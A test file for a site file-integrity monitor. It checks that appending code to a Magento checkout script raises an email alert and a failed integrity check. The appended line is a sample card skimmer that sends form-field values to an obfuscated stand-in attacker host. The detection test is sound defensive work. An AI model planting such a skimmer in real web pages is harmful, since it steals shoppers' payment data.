// The file path of `ripcord run`: with a baseline taken, a skimmer written into a watched site
// file becomes an integrity finding within seconds and an email at a real SMTP server, and
// `ripcord integrity check` then names the file.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { appendFileSync, cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { smtpReceiver, until } from '../helpers/receivers.ts';

const root = resolve(import.meta.dirname, '..', '..');
const cli = join(root, 'src', 'cli', 'main.ts');

test('a file changed under ripcord run raises an integrity alert by email', { timeout: 120_000 }, async (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'ripcord-run-int-'));
  const smtp = await smtpReceiver();
  cpSync(join(root, 'examples', 'demo-shop', 'www'), join(dir, 'site'), { recursive: true });
  writeFileSync(join(dir, 'access.log'), '');
  const cfg = join(dir, 'ripcord.yml');
  writeFileSync(
    cfg,
    [
      'stateDir: ./state',
      'site: { name: Test Shop, platform: magento2, root: ./site }',
      'sources:',
      '  - { type: file, id: web, path: ./access.log, format: nginx }',
      'repository: { passphrase: test-only }',
      'integrity: { watch: { settleMs: 100 } }',
      'alerts:',
      '  pollMs: 100',
      '  channels:',
      `    mail: { type: email, host: 127.0.0.1, port: ${smtp.port}, tls: none, from: ripcord@shop.test, to: [owner@shop.test] }`,
      '  routes:',
      '    - { name: files, match: { category: [integrity] }, groupBy: [finding], groupWait: 0s }',
    ].join('\n'),
  );
  const env = { ...process.env, RIPCORD_TEST_SCRYPT_N: '1024' };
  const base = spawnSync(process.execPath, [cli, '-c', cfg, 'integrity', 'baseline', '--json'], {
    encoding: 'utf8',
    env,
  });
  assert.equal(base.status, 0, base.stderr);

  const child = spawn(process.execPath, [cli, '-c', cfg, 'run', '--poll-ms', '50'], {
    stdio: ['ignore', 'ignore', 'pipe'],
    env,
  });
  let stderr = '';
  child.stderr.on('data', (d: Buffer) => (stderr = (stderr + d.toString()).slice(-8000)));
  t.after(async () => {
    if (child.exitCode === null) child.kill('SIGKILL');
    await smtp.close();
    rmSync(dir, { recursive: true, force: true });
  });
  await until('the integrity watch to start', () => stderr.includes('integrity watch started'), 30_000);

  const js = 'pub/static/frontend/Harbor/pine/en_US/Magento_Checkout/js/view/payment.js';
  appendFileSync(
    join(dir, 'site', js),
    "\n;document.addEventListener('change',function(e){navigator.sendBeacon(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv'),e.target.value)});\n",
  );
  await until(
    'the integrity email',
    () => smtp.mails.some((m) => m.subject.includes('payment.js') || m.text.includes('payment.js')),
    30_000,
  );

  const check = spawnSync(process.execPath, [cli, '-c', cfg, 'integrity', 'check', '--json'], {
    encoding: 'utf8',
    env,
  });
  assert.equal(check.status, 1, 'check exits 1 when files changed');
  assert.match(check.stdout, /payment\.js/);

  child.kill('SIGTERM');
  assert.equal(await new Promise<number | null>((r) => child.once('close', r)), 0, stderr.slice(-1000));
});
